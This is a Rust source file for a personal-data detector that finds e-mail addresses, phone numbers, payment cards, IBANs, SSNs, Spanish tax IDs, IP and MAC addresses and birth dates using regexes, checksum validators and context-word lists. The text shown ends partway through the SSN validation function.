//! Personal-data detection.
//!
//! Each entity is a linear-time candidate regex plus a validator, so that what reaches a
//! finding is a value that could really be one: payment cards pass Luhn and an issuer
//! range, IBANs the per-country length and mod-97, Spanish NIF/NIE/CIF their check
//! character, US SSNs the issued ranges, IP addresses the standard library's parsers.
//! Entities with no checksum (phone numbers, dates of birth) need a strong national format
//! or a context word nearby ("tel.", "móvil", "born", "fecha de nacimiento"). The score
//! says how strong the evidence is: a checksum-validated value scores higher than a
//! well-formed one, and context raises it.
//!
//! Candidates of every type are collected first and overlaps are resolved by score, so a
//! valid IBAN is not also reported as a phone number.

use super::{Detections, Detector, trailing_word_start};
use crate::engine::Context;
use crate::error::GuardError;
use crate::normalize::Normalized;
use aho_corasick::AhoCorasick;
use rampart_core::text::{ceil_char_boundary, floor_char_boundary};
use rampart_core::{Finding, FindingKind};
use regex::Regex;
use std::net::{Ipv4Addr, Ipv6Addr};
use std::sync::OnceLock;

/// Below this score a candidate is dropped rather than reported.
const MIN_SCORE: f32 = 0.5;

/// A stream holds back text near a digit while one is among its last this many bytes:
/// separators (up to the phone pattern's run), an extension, the words of a date
/// between its numbers, or a context word after a number may still follow.
const DIGIT_REACH_AFTER: usize = 40;
/// How far before its last digit a held number may begin: longer than the longest
/// entity with separators (an IBAN with spaces, a date with a month name).
const DIGIT_REACH_BEFORE: usize = 72;
/// The longest e-mail address held back whole in a stream.
const MAX_EMAIL_LEN: usize = 320;

/// A month name or its prefix, in English or Spanish: a date may begin with one.
static MONTH_WORDS: std::sync::LazyLock<Regex> = std::sync::LazyLock::new(|| {
    Regex::new(&format!(r"(?i)^(?:{MONTHS})\.?,?$")).expect("static regex")
});

#[derive(Debug)]
pub struct PiiDetector {
    email: Regex,
    phone: Regex,
    card: Regex,
    iban: Regex,
    ssn: Regex,
    es_nif: Regex,
    es_nie: Regex,
    es_cif: Regex,
    ipv4: Regex,
    ipv6: Regex,
    mac: Regex,
    date: Regex,
    /// The digit-bearing patterns above, in [`NUMERIC`] order: one pass over a window
    /// says which of them can match there at all.
    numeric_set: regex::RegexSet,
}

/// Index of each digit-bearing pattern in [`PiiDetector::numeric_set`].
mod numeric {
    pub const IPV6: usize = 0;
    pub const MAC: usize = 1;
    pub const IBAN: usize = 2;
    pub const CARD: usize = 3;
    pub const SSN: usize = 4;
    pub const NIF: usize = 5;
    pub const NIE: usize = 6;
    pub const CIF: usize = 7;
    pub const IPV4: usize = 8;
    pub const PHONE: usize = 9;
    pub const DATE: usize = 10;
}

/// A candidate finding in byte offsets of the normalised text.
#[derive(Debug, Clone, Copy)]
struct Candidate {
    start: usize,
    end: usize,
    entity: &'static str,
    score: f32,
}

/// Compile with ASCII classes and word boundaries: Unicode `\b` would make the regex
/// engine fall back from its DFA on non-ASCII text, and every entity here is ASCII.
fn re(pattern: &str) -> Regex {
    Regex::new(&format!("(?-u){pattern}")).expect("static regex")
}

const MONTHS: &str = "jan(?:uary)?|feb(?:ruary)?|mar(?:ch)?|apr(?:il)?|may|jun(?:e)?|jul(?:y)?|aug(?:ust)?|sep(?:t(?:ember)?)?|oct(?:ober)?|nov(?:ember)?|dec(?:ember)?|enero|febrero|marzo|abril|mayo|junio|julio|agosto|septiembre|setiembre|octubre|noviembre|diciembre";

impl PiiDetector {
    pub fn new() -> Self {
        let date = format!(
            r"(?i)\b(?:\d{{1,2}}[/.\-]\d{{1,2}}[/.\-](?:19|20)\d{{2}}|(?:19|20)\d{{2}}-\d{{1,2}}-\d{{1,2}}|\d{{1,2}}(?:st|nd|rd|th)?\s+(?:de\s+)?(?:{MONTHS})\.?,?\s+(?:del?\s+)?(?:19|20)\d{{2}}|(?:{MONTHS})\.?\s+\d{{1,2}}(?:st|nd|rd|th)?,?\s+(?:19|20)\d{{2}})\b"
        );
        let mut d = PiiDetector {
            email: re(
                r"\b[A-Za-z0-9](?:[A-Za-z0-9._%+-]{0,63})@(?:[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?\.){1,8}[A-Za-z]{2,24}\b",
            ),
            phone: re(
                r"(?:\+[ \t]?|\(|\b)\d[\d \t().\-/]{4,24}\d(?:[ \t]?(?:x|ext\.?|extension)[ \t]?\d{1,6})?\b",
            ),
            card: re(r"\b\d(?:[ \-]?\d){11,18}\b"),
            iban: re(r"\b[A-Za-z]{2}\d{2}(?:[ \-]?[A-Za-z0-9]){11,32}\b"),
            ssn: re(r"\b\d{3}[- ]?\d{2}[- ]?\d{4}\b"),
            es_nif: re(r"\b\d{2}\.?\d{3}\.?\d{3}[ \-]?[A-Za-z]\b"),
            es_nie: re(r"\b[XYZxyz][ \-]?\d{7}[ \-]?[A-Za-z]\b"),
            es_cif: re(r"\b[ABCDEFGHJNPQRSUVW][ \-]?\d{7}[0-9A-J]\b"),
            ipv4: re(r"\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b"),
            ipv6: re(r"(?i)(?:[0-9a-f]{0,4}:){2,7}(?:[0-9a-f]{1,4}|:|\d{1,3}(?:\.\d{1,3}){3})"),
            mac: re(
                r"(?i)\b(?:[0-9a-f]{2}(?::[0-9a-f]{2}){5}|[0-9a-f]{2}(?:-[0-9a-f]{2}){5}|[0-9a-f]{4}\.[0-9a-f]{4}\.[0-9a-f]{4})\b",
            ),
            date: re(&date),
            numeric_set: regex::RegexSet::empty(),
        };
        let patterns = [
            &d.ipv6, &d.mac, &d.iban, &d.card, &d.ssn, &d.es_nif, &d.es_nie, &d.es_cif, &d.ipv4,
            &d.phone, &d.date,
        ]
        .map(Regex::as_str);
        d.numeric_set = regex::RegexSet::new(patterns).expect("static regex set");
        d
    }

    fn candidates(&self, text: &str, out: &mut Vec<Candidate>) {
        let bytes = text.as_bytes();
        if bytes.contains(&b'@') {
            for m in self.email.find_iter(text) {
                if email_ok(m.as_str()) {
                    out.push(cand(m.start(), m.end(), "EMAIL_ADDRESS", 0.95));
                }
            }
        }
        // Every other entity holds a digit: search only around digits, so prose with a
        // few numbers costs one byte scan instead of a dozen regex passes.
        for (start, end) in digit_windows(text) {
            self.numeric_candidates(text, start, end, out);
        }
    }

    /// Candidates of the entities that contain digits, in `text[start..end]` (matches
    /// are found in `text[..end]` from `start`, so word boundaries see the real context).
    fn numeric_candidates(&self, text: &str, start: usize, end: usize, out: &mut Vec<Candidate>) {
        let window = &text[..end];
        if !numeric_shape(&text.as_bytes()[start..end]) {
            return;
        }
        let hits = self.numeric_set.matches(&text[start..end]);
        if !hits.matched_any() {
            return;
        }
        let hit = |i: usize| hits.matched(i);
        if hit(numeric::IPV6) {
            for m in find_from(&self.ipv6, window, start) {
                let s = m.as_str();
                if s.len() >= 6
                    && ipv6_ok(text, m.start(), m.end())
                    && s.parse::<Ipv6Addr>().is_ok()
                {
                    out.push(cand(m.start(), m.end(), "IP_ADDRESS", 0.9));
                }
            }
        }
        if hit(numeric::MAC) {
            for m in find_from(&self.mac, window, start) {
                if !adjacent(text, m.start(), m.end(), |c| c == ':' || c == '-') {
                    out.push(cand(m.start(), m.end(), "MAC_ADDRESS", 0.85));
                }
            }
        }
        if hit(numeric::IBAN) {
            for m in find_from(&self.iban, window, start) {
                if let Some(end) = iban_end(m.as_str()) {
                    out.push(cand(m.start(), m.start() + end, "IBAN_CODE", 0.98));
                }
            }
        }
        if hit(numeric::CARD) {
            for m in find_from(&self.card, window, start) {
                let digits = digits_of(m.as_str());
                let ctx = context_before(text, m.start(), &CARD_WORDS);
                if let Some(score) = card_score(&digits, m.as_str(), ctx) {
                    out.push(cand(
                        m.start(),
                        m.end(),
                        "CREDIT_CARD",
                        if ctx { 0.99 } else { score },
                    ));
                }
            }
        }
        if hit(numeric::SSN) {
            for m in find_from(&self.ssn, window, start) {
                let s = m.as_str();
                let digits = digits_of(s);
                if !ssn_valid(&digits) || adjacent(text, m.start(), m.end(), |c| c == '-') {
                    continue;
                }
                let dashed =
                    s.as_bytes().get(3) == Some(&b'-') && s.as_bytes().get(6) == Some(&b'-');
                let ctx = context_before(text, m.start(), &SSN_WORDS);
                let score = match (dashed, ctx) {
                    (_, true) => 0.95,
                    (true, false) => 0.85,
                    (false, false) => continue,
                };
                out.push(cand(m.start(), m.end(), "US_SSN", score));
            }
        }
        if hit(numeric::NIF) {
            for m in find_from(&self.es_nif, window, start) {
                let s = m.as_str();
                let digits = digits_of(s);
                let letter = s.chars().last().map(|c| c.to_ascii_uppercase());
                if let (Ok(n), Some(l)) = (digits.parse::<u32>(), letter)
                    && dni_letter(n) == l
                {
                    out.push(cand(m.start(), m.end(), "ES_NIF", 0.95));
                }
            }
        }
        if hit(numeric::NIE) {
            for m in find_from(&self.es_nie, window, start) {
                if nie_valid(m.as_str()) {
                    out.push(cand(m.start(), m.end(), "ES_NIE", 0.95));
                }
            }
        }
        if hit(numeric::CIF) {
            for m in find_from(&self.es_cif, window, start) {
                if cif_valid(m.as_str()) {
                    let ctx = context_before(text, m.start(), &CIF_WORDS);
                    out.push(cand(
                        m.start(),
                        m.end(),
                        "ES_CIF",
                        if ctx { 0.95 } else { 0.85 },
                    ));
                }
            }
        }
        if hit(numeric::IPV4) {
            for m in find_from(&self.ipv4, window, start) {
                if m.as_str().parse::<Ipv4Addr>().is_ok()
                    && !adjacent(text, m.start(), m.end(), |c| c == '.' || c.is_ascii_digit())
                    && !context_before_n(text, m.start(), 12, &VERSION_WORDS)
                    && !version_change(text, m.start(), m.end())
                {
                    out.push(cand(m.start(), m.end(), "IP_ADDRESS", 0.85));
                }
            }
        }
        if hit(numeric::PHONE) {
            for m in find_from(&self.phone, window, start) {
                if let Some(score) = phone_score(text, m.start(), m.end()) {
                    out.push(cand(m.start(), m.end(), "PHONE_NUMBER", score));
                }
            }
        }
        if hit(numeric::DATE) {
            for m in find_from(&self.date, window, start) {
                if date_valid(m.as_str()) && context_before_n(text, m.start(), 48, &DOB_WORDS) {
                    out.push(cand(m.start(), m.end(), "DATE_OF_BIRTH", 0.85));
                }
            }
        }
    }
}

/// Matches of `re` in `hay` that start at or after byte `start`.
fn find_from<'t>(
    re: &'t Regex,
    hay: &'t str,
    start: usize,
) -> impl Iterator<Item = regex::Match<'t>> + 't {
    let mut pos = start;
    std::iter::from_fn(move || {
        if pos > hay.len() {
            return None;
        }
        let m = re.find_at(hay, pos)?;
        pos = if m.end() > pos { m.end() } else { pos + 1 };
        // Past the end stays past the end: that is what ends the iteration.
        if pos < hay.len() {
            pos = ceil_char_boundary(hay, pos);
        }
        Some(m)
    })
}

/// Byte ranges of `text` around its digits (wide enough for the longest entity), merged,
/// extended to whitespace so that a window edge never falls inside a token.
fn digit_windows(text: &str) -> Vec<(usize, usize)> {
    const REACH: usize = 56;
    let b = text.as_bytes();
    let mut windows: Vec<(usize, usize)> = Vec::new();
    let mut i = 0;
    while let Some(d) = next_digit(b, i) {
        i = d;
        let mut s = i.saturating_sub(REACH);
        let mut e = (i + REACH).min(b.len());
        // Widen to whitespace (bounded), then to character boundaries.
        let mut k = 0;
        while s > 0 && !b[s - 1].is_ascii_whitespace() && k < 64 {
            s -= 1;
            k += 1;
        }
        k = 0;
        while e < b.len() && !b[e].is_ascii_whitespace() && k < 64 {
            e += 1;
            k += 1;
        }
        let (s, e) = (floor_char_boundary(text, s), ceil_char_boundary(text, e));
        match windows.last_mut() {
            Some(last) if s <= last.1 => last.1 = last.1.max(e),
            _ => windows.push((s, e)),
        }
        // Skip ahead: digits inside this window are already covered.
        i = (i + 1).max(e.saturating_sub(REACH));
    }
    windows
}

/// The position of the first ASCII digit in `b` at or after `from`. Eight bytes at a
/// time: most of a text has no digit, and this scan reads all of it.
fn next_digit(b: &[u8], from: usize) -> Option<usize> {
    const LOW7: u64 = 0x7F7F_7F7F_7F7F_7F7F;
    const HIGH: u64 = 0x8080_8080_8080_8080;
    let mut i = from;
    while i + 8 <= b.len() {
        let mut chunk = [0u8; 8];
        chunk.copy_from_slice(&b[i..i + 8]);
        let x = u64::from_le_bytes(chunk);
        // Per byte, without carries between bytes (each is at most 0x7F before adding):
        // the high bit of `y + 0x50` is set when the byte is at least b'0', that of
        // `y + 0x46` when it is at least b':'; bytes of 0x80 and up are excluded by `!x`.
        let y = x & LOW7;
        let digits = (y + 0x5050_5050_5050_5050) & !(y + 0x4646_4646_4646_4646) & !x & HIGH;
        if digits != 0 {
            return Some(i + (digits.trailing_zeros() / 8) as usize);
        }
        i += 8;
    }
    b[i.min(b.len())..]
        .iter()
        .position(u8::is_ascii_digit)
        .map(|k| i + k)
}

/// The bytes that end [`numeric_shape`]'s skip over bytes that change nothing.
static SHAPE_STOP: [bool; 256] = {
    let mut t = [false; 256];
    let mut c = 0;
    while c < 256 {
        let b = c as u8;
        t[c] = b.is_ascii_digit() || b == b':' || b == b'-' || b == b'.';
        c += 1;
    }
    t
};

/// The first position at or after `from` of a [`SHAPE_STOP`] byte. Eight bytes at a
/// time: the bytes from `-` to `:` are flagged exactly (each byte tested apart, as in
/// [`next_digit`]), and a flagged `/` is skipped.
fn next_shape_stop(w: &[u8], from: usize) -> Option<usize> {
    const LOW7: u64 = 0x7F7F_7F7F_7F7F_7F7F;
    const HIGH: u64 = 0x8080_8080_8080_8080;
    const ONES: u64 = 0x0101_0101_0101_0101;
    let mut i = from;
    while i + 8 <= w.len() {
        let mut chunk = [0u8; 8];
        chunk.copy_from_slice(&w[i..i + 8]);
        let x = u64::from_le_bytes(chunk);
        let y = x & LOW7;
        // High bit of `y + 0x80 - c` set when the byte is at least `c`.
        let mut flags = (y + ONES * (0x80 - u64::from(b'-')))
            & !(y + ONES * (0x80 - u64::from(b':') - 1))
            & !x
            & HIGH;
        while flags != 0 {
            let k = i + (flags.trailing_zeros() / 8) as usize;
            if SHAPE_STOP[usize::from(w[k])] {
                return Some(k);
            }
            flags &= flags - 1;
        }
        i += 8;
    }
    w.get(i..)?
        .iter()
        .position(|&c| SHAPE_STOP[usize::from(c)])
        .map(|k| i + k)
}

/// Whether any pattern of [`PiiDetector::numeric_set`] could match in `w`: one byte pass
/// over shapes every match must contain, so that the common window (a price, a year, a
/// version, a list index) skips the pattern set's overlapping search. Each test is a
/// necessary condition of some patterns, and every pattern is covered by one:
///
/// - a year `(19|20)\d{2}`: every date spells one; seven consecutive digits: the NIE
///   and CIF;
/// - a letter then two digits: the IBAN's country and check digits;
/// - nine digits in a run of digits, spaces and dashes: the SSN, and the card's twelve;
/// - in a run of digits and dots, eight digits (NIF) or four digits and three dots (IPv4);
/// - in a run of the phone pattern's characters, two digits at least five bytes apart
///   (`\d[\d \t().\-/]{4,24}\d`);
/// - two colons (or dashes) with at most four hex digits between, then a hex digit (or a
///   colon): IPv6 and the MAC's colon and dash forms; two dots with exactly four hex
///   digits between, then a hex digit: its dotted form.
fn numeric_shape(w: &[u8]) -> bool {
    let mut digits = 0usize; // consecutive digits
    let mut dashed = 0usize; // digits in the current run of [0-9 -]
    let (mut dotted, mut dots) = (0usize, 0usize); // digits and dots in the run of [0-9.]
    let mut phone_first: Option<usize> = None; // first digit of the run of phone bytes
    let mut hex = 0usize; // hex digits since `sep`
    let mut sep: Option<u8> = None; // the ':', '-' or '.' before those hex digits
    let mut i = 0;
    while i < w.len() {
        let clean = digits == 0
            && dashed == 0
            && (dotted, dots) == (0, 0)
            && phone_first.is_none()
            && sep.is_none();
        if clean {
            // Nothing under way: every byte up to the next digit or separator would leave
            // the state as it is, so skip them in one tight loop (most of a window).
            match next_shape_stop(w, i) {
                Some(k) => i = k,
                None => return false,
            }
        }
        let c = w[i];
        let digit = c.is_ascii_digit();
        if digit {
            digits += 1;
            let year = digits >= 4 && matches!(&w[i - 3..i - 1], b"19" | b"20");
            if year || digits >= 7 || (digits == 2 && i >= 2 && w[i - 2].is_ascii_alphabetic()) {
                return true;
            }
        } else {
            digits = 0;
        }
        if digit {
            dashed += 1;
            if dashed >= 9 {
                return true;
            }
        } else if c != b' ' && c != b'-' {
            dashed = 0;
        }
        if digit {
            dotted += 1;
        } else if c == b'.' {
            dots += 1;
        } else {
            (dotted, dots) = (0, 0);
        }
        if dotted >= 8 || (dotted >= 4 && dots >= 3) {
            return true;
        }
        if digit {
            match phone_first {
                Some(f) if i - f >= 5 => return true,
                Some(_) => {}
                None => phone_first = Some(i),
            }
        } else if !matches!(c, b' ' | b'\t' | b'(' | b')' | b'.' | b'-' | b'/') {
            phone_first = None;
        }
        if matches!(c, b':' | b'-' | b'.') {
            // ... and a hex digit (or, after a colon, a colon) must follow.
            let more = w
                .get(i + 1)
                .is_some_and(|&n| n.is_ascii_hexdigit() || (c == b':' && n == b':'));
            if sep == Some(c) && more && (if c == b'.' { hex == 4 } else { hex <= 4 }) {
                return true;
            }
            sep = Some(c);
            hex = 0;
        } else if c.is_ascii_hexdigit() {
            hex += 1;
        } else {
            hex = 0;
            sep = None;
        }
        i += 1;
    }
    false
}

fn cand(start: usize, end: usize, entity: &'static str, score: f32) -> Candidate {
    Candidate {
        start,
        end,
        entity,
        score,
    }
}

impl Detector for PiiDetector {
    fn name(&self) -> &'static str {
        "pii"
    }

    fn kinds(&self) -> &'static [FindingKind] {
        &[FindingKind::Pii]
    }

    /// Hold back the trailing word (an e-mail address has no white space); while a digit
    /// is among the last [`DIGIT_REACH_AFTER`] bytes, everything from
    /// [`DIGIT_REACH_BEFORE`] bytes before it (a card, IBAN or phone number with
    /// separators may still grow, and context words after a number still count); and a
    /// short word or a month name followed by a separator, which a number may still
    /// join (`X 1234567L`, `+ 34 …`, `September 15, 1990`). Prose without digits is
    /// released up to its last word.
    fn pending_tail(&self, text: &str, _ctx: &Context) -> usize {
        let mut start = trailing_word_start(text, MAX_EMAIL_LEN);
        let recent = text.len().saturating_sub(DIGIT_REACH_AFTER);
        if let Some(d) = text.as_bytes()[recent..]
            .iter()
            .rposition(u8::is_ascii_digit)
        {
            let from = floor_char_boundary(text, (recent + d).saturating_sub(DIGIT_REACH_BEFORE));
            // Back to the start of the word `from` falls in.
            start = start.min(trailing_word_start(&text[..from], MAX_EMAIL_LEN));
        }
        let body = text.trim_end_matches([' ', '\t', '-', '.', '/', ',']);
        if body.len() < text.len() {
            let word = trailing_word_start(body, 16);
            let w = &body[word..];
            if w.len() <= 3 || MONTH_WORDS.is_match(w) {
                start = start.min(word);
            }
        }
        text.len() - start
    }

    fn detect(
        &self,
        text: &Normalized<'_>,
        _ctx: &Context,
        out: &mut Detections,
    ) -> Result<(), GuardError> {
        let mut found = Vec::new();
        self.candidates(text.text(), &mut found);
        for c in resolve_overlaps(found) {
            let (s, e) = text.span_to_original(c.start, c.end);
            out.findings
                .push(Finding::new(FindingKind::Pii, c.entity, s, e, c.score));
        }
        Ok(())
    }
}

/// Keep the best-scored candidate of each group of overlapping ones (the longer on a tie).
fn resolve_overlaps(mut found: Vec<Candidate>) -> Vec<Candidate> {
    found.retain(|c| c.score >= MIN_SCORE && c.end > c.start);
    found.sort_by(|a, b| a.start.cmp(&b.start).then(b.end.cmp(&a.end)));
    let mut kept: Vec<Candidate> = Vec::with_capacity(found.len());
    for c in found {
        match kept.last_mut() {
            Some(last) if c.start < last.end => {
                let better = c.score > last.score
                    || (c.score == last.score && c.end - c.start > last.end - last.start);
                if better {
                    *last = c;
                }
            }
            _ => kept.push(c),
        }
    }
    kept
}

fn digits_of(s: &str) -> String {
    s.chars().filter(char::is_ascii_digit).collect()
}

/// Whether the character just before `start` or just after `end` satisfies `f`.
fn adjacent(text: &str, start: usize, end: usize, f: impl Fn(char) -> bool) -> bool {
    let before = text[..start].chars().next_back();
    let after = text[end..].chars().next();
    before.is_some_and(&f) || after.is_some_and(&f)
}

static CARD_WORDS: WordList = WordList::new(&[
    "card",
    "tarjeta",
    "visa",
    "mastercard",
    "amex",
    "credit",
    "crédito",
    "debit",
    "débito",
    "cc#",
    "pan",
    "carte",
    "karte",
]);
static SSN_WORDS: WordList = WordList::new(&[
    "ssn",
    "social security",
    "social sec",
    "ss#",
    "seguro social",
]);
static CIF_WORDS: WordList = WordList::new(&[
    "cif",
    "nif",
    "empresa",
    "sociedad",
    "company",
    "razón social",
]);
static VERSION_WORDS: WordList = WordList::new(&["version", "versión", "v.", "release", "build"]);
/// Verbs that make the dotted numbers after "from" and "to" software versions: "upgraded
/// the cluster from 1.9.14.8 to 8.3.2.8". (Not "migrated": servers move between IPs.)
static UPGRADE_WORDS: WordList = WordList::new(&[
    "upgrad",
    "downgrad",
    "updated",
    "updating",
    "bump",
    "rolled back",
    "roll back",
    "rollback",
    "patched",
    "actualiz",
    "atualiz",
    "mise à jour",
    "aktualisier",
    "aggiorna",
]);

/// Whether the dotted number at `start..end` follows or precedes "from" / "to" (or an
/// arrow) in a sentence about an upgrade: a version, not an address.
fn version_change(text: &str, start: usize, end: usize) -> bool {
    const LINKS: &[&str] = &[
        "from", "to", "->", "→", "=>", "de", "desde", "a", "para", "von", "auf", "nach", "da", "à",
    ];
    let lower = |w: Option<&str>| w.unwrap_or_default().to_lowercase();
    let before = lower(text[..start].trim_end().rsplit(char::is_whitespace).next());
    let after = lower(text[end..].split_whitespace().next());
    (LINKS.contains(&before.as_str()) || LINKS.contains(&after.as_str()))
        && context_before_n(text, start, 80, &UPGRADE_WORDS)
}
static DOB_WORDS: WordList = WordList::new(&[
    "born",
    "birth",
    "dob",
    "d.o.b",
    "birthday",
    "nacido",
    "nacida",
    "nacimiento",
    "f. nac",
    "fecha nac",
    "cumpleaños",
    "né le",
    "née le",
    "geboren",
    "geburtsdatum",
]);
static PHONE_WORDS: WordList = WordList::new(&[
    "phone",
    "tel",
    "móvil",
    "movil",
    "mobile",
    "cell",
    "call",
    "llam",
    "llám",
    "tél",
    "fax",
    "desk",
    "whatsapp",
    "contact",
    "número",
    "numero",
    "number",
    "message",
    "sms",
    "text me",
    "answering",
    "reach",
    "dial",
    "handy",
    "portable",
    "téléphone",
    "fijo",
    "celular",
]);
/// Words that say a number is something else, even next to "number".
static NOT_PHONE_WORDS: WordList = WordList::new(&[
    "license",
    "licence",
    "licencia",
    "account",
    "cuenta",
    "order",
    "pedido",
    "invoice",
    "factura",
    "card",
    "tarjeta",
    "passport",
    "pasaporte",
    "policy",
    "póliza",
    "ticket",
    "tracking",
    "located",
    "address",
    "dirección",
    "domicilio",
    "ssn",
    "iban",
    "serial",
    "license number",
    "licence number",
    "card number",
    "account number",
    "order number",
    "tracking number",
    "serial number",
    "policy number",
    "passport number",
    "id number",
    "número de cuenta",
    "número de tarjeta",
    "número de pedido",
]);
static PHONE_WORDS_AFTER: WordList = WordList::new(&[
    "office", "fax", "mobile", "cell", "home", "work", "phone", "móvil",
]);

/// Whether one of `words` occurs (case-insensitively) in the 40 bytes before `start`.
fn context_before(text: &str, start: usize, words: &WordList) -> bool {
    context_before_n(text, start, 40, words)
}

/// Context never crosses a paragraph break: that is also the separator before decoded
/// segments, and a word at the end of the text must not lend its context to a value
/// decoded from elsewhere (nor may a stream's chunking change what is found).
fn context_before_n(text: &str, start: usize, window: usize, words: &WordList) -> bool {
    let from = ceil_char_boundary(text, start.saturating_sub(window));
    let window = &text[from..start];
    let window = window.rfind("\n\n").map_or(window, |i| &window[i + 2..]);
    contains_any(window, words)
}

/// Where the last of `words` ends in the 40 bytes before `start`, if any.
fn last_word_before(text: &str, start: usize, words: &WordList) -> Option<usize> {
    let from = ceil_char_boundary(text, start.saturating_sub(40));
    let window = &text[from..start];
    // Not across a paragraph break (see `context_before_n`); offsets stay window-relative,
    // which is all the comparison between two word lists needs.
    let window = window.rfind("\n\n").map_or(window, |i| &window[i + 2..]);
    words
        .matcher()
        .find_overlapping_iter(window)
        .map(|m| m.end())
        .max()
}

fn context_after(text: &str, end: usize, words: &WordList) -> bool {
    let to = floor_char_boundary(text, end + 16);
    let window = &text[end..to];
    let window = window.find("\n\n").map_or(window, |i| &window[..i]);
    contains_any(window, words)
}

fn contains_any(window: &str, words: &WordList) -> bool {
    words.matcher().is_match(window)
}

/// Context words, matched ASCII-case-insensitively with one automaton per list.
#[derive(Debug)]
struct WordList {
    words: &'static [&'static str],
    matcher: OnceLock<AhoCorasick>,
}

impl WordList {
    const fn new(words: &'static [&'static str]) -> Self {
        WordList {
            words,
            matcher: OnceLock::new(),
        }
    }

    fn matcher(&self) -> &AhoCorasick {
        self.matcher.get_or_init(|| {
            AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .build(self.words)
                .expect("static word list")
        })
    }
}

fn email_ok(s: &str) -> bool {
    let (local, domain) = s.split_once('@').unwrap_or((s, ""));
    let tld = domain.rsplit('.').next().unwrap_or("");
    // File names such as `logo@2x.png` share the shape.
    const FILE_EXTENSIONS: &[&str] = &["png", "jpg", "jpeg", "gif", "svg", "webp", "js", "css"];
    !local.contains("..")
        && !local.ends_with('.')
        && !FILE_EXTENSIONS.contains(&tld.to_ascii_lowercase().as_str())
}

fn ipv6_ok(text: &str, start: usize, end: usize) -> bool {
    let s = &text[start..end];
    let colons = s.bytes().filter(|&b| b == b':').count();
    let hex = s.bytes().filter(u8::is_ascii_hexdigit).count();
    // `std::io::Read`-like paths and clock times are not addresses.
    (colons == 7 || s.contains("::"))
        && hex >= 4
        && !adjacent(text, start, end, |c| c.is_ascii_alphanumeric() || c == ':')
}

/// The byte length of the valid IBAN at the start of `s`, if there is one.
fn iban_end(s: &str) -> Option<usize> {
    let country = s.get(..2)?.to_ascii_uppercase();
    let want = iban_length(&country)?;
    let mut alnum = 0;
    let mut end = 0;
    let mut compact = String::with_capacity(want);
    for (i, c) in s.char_indices() {
        if c.is_ascii_alphanumeric() {
            alnum += 1;
            compact.push(c.to_ascii_uppercase());
            if alnum == want {
                end = i + 1;
                break;
            }
        }
    }
    if alnum != want || s[end..].starts_with(|c: char| c.is_ascii_alphanumeric()) {
        return None;
    }
    // The check digits are digits and the BBAN is not one repeated character.
    iban_mod97(&compact).then_some(end)
}

fn iban_mod97(compact: &str) -> bool {
    let (head, tail) = compact.split_at(4);
    let mut rem: u32 = 0;
    for c in tail.chars().chain(head.chars()) {
        let v = match c {
            '0'..='9' => c as u32 - '0' as u32,
            'A'..='Z' => c as u32 - 'A' as u32 + 10,
            _ => return false,
        };
        rem = if v >= 10 {
            (rem * 100 + v) % 97
        } else {
            (rem * 10 + v) % 97
        };
    }
    rem == 1
}

/// IBAN length per country (SWIFT IBAN registry).
fn iban_length(country: &str) -> Option<usize> {
    Some(match country {
        "NO" => 15,
        "BE" => 16,
        "DK" | "FI" | "FO" | "GL" | "NL" | "SD" | "FK" => 18,
        "MK" | "SI" => 19,
        "AT" | "BA" | "EE" | "KZ" | "LT" | "LU" | "XK" | "MN" => 20,
        "CH" | "HR" | "LI" | "LV" => 21,
        "BG" | "BH" | "CR" | "DE" | "GB" | "GE" | "IE" | "ME" | "RS" | "VA" => 22,
        "AE" | "GI" | "IL" | "IQ" | "TL" | "OM" | "SO" => 23,
        "AD" | "CZ" | "ES" | "MD" | "PK" | "RO" | "SA" | "SE" | "SK" | "TN" | "VG" => 24,
        "LY" | "PT" | "ST" => 25,
        "IS" | "TR" => 26,
        "FR" | "GR" | "IT" | "MC" | "MR" | "SM" | "BI" | "DJ" => 27,
        "AL" | "AZ" | "BY" | "CY" | "DO" | "GT" | "HU" | "LB" | "PL" | "SV" | "NI" | "HN" => 28,
        "BR" | "EG" | "PS" | "QA" | "UA" => 29,
        "JO" | "KW" | "MU" | "YE" => 30,
        "MT" | "SC" => 31,
        "LC" => 32,
        "RU" => 33,
        _ => return None,
    })
}

fn luhn(digits: &str) -> bool {
    let mut sum = 0u32;
    for (i, c) in digits.bytes().rev().enumerate() {
        let mut d = (c - b'0') as u32;
        if i % 2 == 1 {
            d *= 2;
            if d > 9 {
                d -= 9;
            }
        }
        sum += d;
    }
    sum.is_multiple_of(10)
}

/// The score of a Luhn-valid number in a known issuer range with that issuer's length.
fn card_score(digits: &str, raw: &str, context: bool) -> Option<f32> {
    let len = digits.len();
    if !(12..=19).contains(&len) || !luhn(digits) {
        return None;
    }
    // Separators, if any, must group the digits the way cards are printed (4-4-4-4,
    // 4-6-5): a single `-` inside a long number is an order or a reference.
    let groups: Vec<usize> = raw
        .split([' ', '-'])
        .filter(|g| !g.is_empty())
        .map(str::len)
        .collect();
    if groups.len() > 1 && !(groups.iter().all(|&g| (3..=6).contains(&g)) && groups.len() >= 3) {
        return None;
    }
    if digits.bytes().all(|b| b == digits.as_bytes()[0]) {
        return None;
    }
    let p = |n: usize| digits[..n].parse::<u32>().unwrap_or(0);
    let maestro = matches!(p(2), 50 | 56..=69) || matches!(p(4), 604 | 6390);
    let known = match digits.as_bytes()[0] {
        _ if len < 13 => false,
        b'4' => matches!(len, 13 | 16 | 19),
        b'5' => (51..=55).contains(&p(2)) && len == 16 || maestro,
        b'2' => (2221..=2720).contains(&p(4)) && len == 16 || p(4) == 2131 && len == 15,
        b'3' => {
            (matches!(p(2), 34 | 37) && len == 15)
                || ((300..=305).contains(&p(3)) || matches!(p(2), 36 | 38 | 39)) && len >= 14
                || p(2) == 35 && len >= 16
        }
        b'6' => maestro || p(4) == 6011 || (644..=649).contains(&p(3)) || p(2) == 65,
        b'1' => p(4) == 1800 && len == 15,
        _ => false,
    };
    // Twelve-digit Maestro numbers look like any reference: only with card context.
    if !known && maestro && len >= 12 && context {
        return Some(0.9);
    }
    known.then_some(if groups.len() > 1 { 0.95 } else { 0.9 })
}

/// US SSN rules: no area 000, 666 or 900-999, no group 00, no serial 0000, and not one
/// of the numbers printed in advertisements and documentation.
fn ssn_valid(digits: &str) -> bool {
    if digits.len() != 9 {
        return false;
    }
    let area: u32 = digits[..3].parse().unwrap_or(0);
    let group: u32 = digits[3..5].parse().unwrap_or(0);
    let serial: u32 = digits[5..].parse().unwrap_or(0);
    area != 0
        && area != 666
        && area < 900
        && group != 0
        && serial != 0
        && !matches!(
